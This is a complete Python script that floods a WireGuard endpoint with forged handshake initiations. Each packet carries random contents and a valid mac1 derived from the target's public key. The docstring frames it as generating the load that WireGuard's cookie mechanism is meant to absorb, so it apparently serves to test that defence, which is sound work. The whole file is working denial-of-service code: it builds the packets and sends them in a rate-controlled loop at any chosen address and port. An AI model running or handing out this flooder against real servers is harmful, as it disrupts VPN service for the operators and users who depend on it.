#!/usr/bin/env python3
# SPDX-License-Identifier: Apache-2.0
"""wg_flood.py ADDRESS PORT PUBLIC-KEY SECONDS PER-SECOND: handshake initiations of nobody with a good mac1
(WireGuard paper section 5.4.4), which whoever knows a public key can make: the load that cookies are for."""
import base64
import hashlib
import os
import socket
import sys
import time

address, port, key, seconds, rate = sys.argv[1:]
mac_key = hashlib.blake2s(b"mac1----" + base64.b64decode(key)).digest()


def initiation():
    body = b"\x01\0\0\0" + os.urandom(112)
    return body + hashlib.blake2s(body, key=mac_key, digest_size=16).digest() + bytes(16)


messages = [initiation() for _ in range(512)]
family = socket.AF_INET6 if ":" in address else socket.AF_INET
out = socket.socket(family, socket.SOCK_DGRAM)
out.connect((address, int(port)))
end = time.monotonic() + float(seconds)
step = max(1, int(rate) // 100)
sent = 0
while time.monotonic() < end:
    for _ in range(step):
        try:
            out.send(messages[sent % len(messages)])
        except OSError:
            pass
        sent += 1
    time.sleep(0.01)
